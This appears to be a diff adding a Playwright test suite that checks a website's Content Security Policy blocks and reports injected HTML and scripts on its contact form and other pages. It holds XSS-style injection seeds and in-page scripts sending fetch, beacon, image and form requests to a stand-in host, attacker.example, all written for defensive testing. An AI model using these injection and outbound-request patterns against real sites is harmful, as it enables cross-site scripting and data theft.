@@ -1,0 +1,205 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { type Browser, expect, type Page } from '@playwright/test'
+import { builtPages } from '../../../tools/build/builtPages'
+import { testBuilds } from '../../../tools/lib/testBuilds'
+import { test } from '../../support/browser'
+import { collectViolations } from '../../support/violations'
+import { expectSent, fillInAll, submit, submitButton } from './journey'
+
+/** What an attacker, or a package gone bad, would do; each must be blocked and reported. */
+
+interface Attacked {
+  page: Page
+  violations: readonly string[]
+  /** Requests to another host that were not blocked. */
+  left: readonly string[]
+}
+
+/** A page in a context that expects violations, with `seeded` at the end of its body. */
+async function openWith(
+  seeded: string,
+  path: string,
+  browser: Browser,
+  siteUrl: string,
+): Promise<Attacked> {
+  const context = await browser.newContext({ baseURL: siteUrl })
+  const violations = await collectViolations(context)
+  const page = await context.newPage()
+  const left: string[] = []
+  // The policy comes before the network: what it blocks never arrives here.
+  await page.route(`${foreign}/**`, (route) => {
+    left.push(route.request().url())
+    return route.abort()
+  })
+  await page.route(`**${path}`, async (route) => {
+    if (!seeded) return route.continue()
+    const response = await route.fetch()
+    const html = await response.text()
+    await route.fulfill({ response, body: html.replace('</body>', `${seeded}</body>`) })
+  })
+  await page.goto(path)
+  return { page, violations, left }
+}
+
+const expectViolation = (violations: readonly string[], text: string, name = text) =>
+  expect.soft.poll(() => violations.join('\n'), name).toContain(text)
+
+const foreign = 'https://attacker.example'
+
+/** HTML that got into a page, and what reports it; each report is of this seed alone. */
+const seeds = {
+  '<script>document.title = "seeded"</script>': 'script-src-elem blocked inline',
+  [`<script src="${foreign}/a.js"></script>`]: `script-src-elem blocked ${foreign}/a.js`,
+  '<img src="/x" onerror="document.title = \'seeded\'">': 'script-src-attr blocked',
+  '<style>body { display: none }</style>': 'style-src-elem blocked inline',
+  '<p style="position: fixed; inset: 0">x</p>': 'style-src-attr blocked',
+  [`<img src="${foreign}/a.png">`]: `img-src blocked ${foreign}/a.png`,
+  [`<iframe src="${foreign}"></iframe>`]: 'frame-src blocked',
+  [`<object data="${foreign}"></object>`]: 'object-src blocked',
+  [`<base href="${foreign}">`]: 'base-uri blocked',
+}
+
+/** Scripts that got into a page, each with what reports it; only the last may leave the page. */
+const scripts: readonly (readonly [reported: string, script: (address: string) => void])[] = [
+  [
+    `connect-src blocked ${foreign}/request`,
+    (address) => void fetch(`${address}/request`).catch(() => {}),
+  ],
+  [
+    `connect-src blocked ${foreign}/beacon`,
+    (address) => void navigator.sendBeacon(`${address}/beacon`, 'x'),
+  ],
+  [
+    `img-src blocked ${foreign}/b.png`,
+    (address) => void Object.assign(new Image(), { src: `${address}/b.png` }),
+  ],
+  [
+    'require-trusted-types-for blocked trusted-types-sink',
+    (address) => {
+      try {
+        document.body.innerHTML = `<img src="${address}">`
+      } catch {
+        // Reported as a violation too.
+      }
+    },
+  ],
+  [
+    'trusted-types blocked trusted-types-policy',
+    () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => void }
+      }
+      try {
+        trustedTypes.createPolicy('default', { createHTML: (html: string) => html })
+      } catch {
+        // Reported as a violation too.
+      }
+    },
+  ],
+  [
+    'form-action blocked',
+    (action) => {
+      const form = Object.assign(document.createElement('form'), { action })
+      document.body.append(form)
+      form.submit()
+    },
+  ],
+]
+
+test('each attack on the form, in its HTML or by a script, is blocked and reported', async ({
+  browser,
+  siteUrl,
+}) => {
+  const html = Object.keys(seeds).join('')
+  const { page, violations, left } = await openWith(html, '/contact/', browser, siteUrl)
+  for (const [seed, reported] of Object.entries(seeds)) {
+    await expectViolation(violations, `/contact/: ${reported}`, seed)
+  }
+  expect.soft(await page.title()).not.toBe('seeded')
+  await expect.soft(page.locator('body')).toBeVisible()
+  for (const [reported, script] of scripts) {
+    await page.evaluate(script, foreign)
+    await expectViolation(violations, `/contact/: ${reported}`)
+  }
+  expect(left).toEqual([])
+  await page.context().close()
+})
+
+const paths = builtPages(testBuilds.site).map(({ path }) => path)
+
+for (const path of paths.filter((each) => each !== '/contact/')) {
+  test(`${path}: a script in the HTML is blocked`, async ({ browser, siteUrl }) => {
+    const script = `<script>document.title = "seeded"</script><script src="${foreign}/a.js"></script>`
+    const { page, violations, left } = await openWith(script, path, browser, siteUrl)
+    await expectViolation(violations, `${path}: script-src-elem blocked inline`)
+    await expectViolation(violations, `${path}: script-src-elem blocked ${foreign}/a.js`)
+    expect.soft(await page.title()).not.toBe('seeded')
+    expect(left).toEqual([])
+    await page.context().close()
+  })
+}
+
+test('no page can be in a frame of another site', async ({ browser, siteUrl }) => {
+  const frames = paths.map((path) => `<iframe src="${siteUrl}${path}"></iframe>`)
+  const other = await serveHtml(frames.join(''))
+  const page = await browser.newPage()
+  const messages: string[] = []
+  page.on('console', (message) => messages.push(message.text()))
+  await page.goto(other.url)
+  const refused = () => messages.filter((text) => text.includes("frame-ancestors 'none'"))
+  await expect.soft.poll(refused).toHaveLength(paths.length)
+  const [, ...framed] = page.frames()
+  expect(framed).toHaveLength(paths.length)
+  for (const [index, path] of paths.entries()) {
+    expect.soft(await framed[index]?.content(), path).not.toContain('<main')
+  }
+  await page.close()
+  other.close()
+})
+
+test('a form that an extension has changed can still be sent', async ({
+  browser,
+  siteUrl,
+  sandbox,
+}) => {
+  const { page, violations } = await openWith('', '/contact/', browser, siteUrl)
+  await page.evaluate(changeAsExtensionsDo, foreign)
+  await expect(submitButton(page)).toBeEnabled()
+  await fillInAll(page)
+  await submit(page)
+  await expectSent(page, sandbox)
+  for (const directive of ['style-src-elem', 'style-src-attr', 'img-src']) {
+    await expectViolation(violations, `${directive} blocked`)
+  }
+  await page.context().close()
+})
+
+/** Runs in the page, perhaps before it is hydrated: panels, badges in fields, marked words. */
+function changeAsExtensionsDo(address: string): void {
+  const style = Object.assign(document.createElement('style'), {
+    textContent: 'input { all: unset }',
+  })
+  const panel = document.createElement('div')
+  panel.setAttribute('style', 'position: fixed; inset: 0; background: red')
+  panel.append(Object.assign(new Image(), { src: `${address}/badge.png` }))
+  document.head.append(style)
+  document.body.append(panel)
+  for (const field of document.querySelectorAll('input, textarea')) {
+    field.setAttribute('data-extension', 'on')
+    field.setAttribute('style', 'background: red')
+  }
+}
+
+async function serveHtml(html: string): Promise<{ url: string; close: () => void }> {
+  const server = createServer((_request, response) => {
+    response.setHeader('content-type', 'text/html').end(html)
+  }).listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  const close = () => {
+    server.closeAllConnections()
+    server.close()
+  }
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, close }
+}
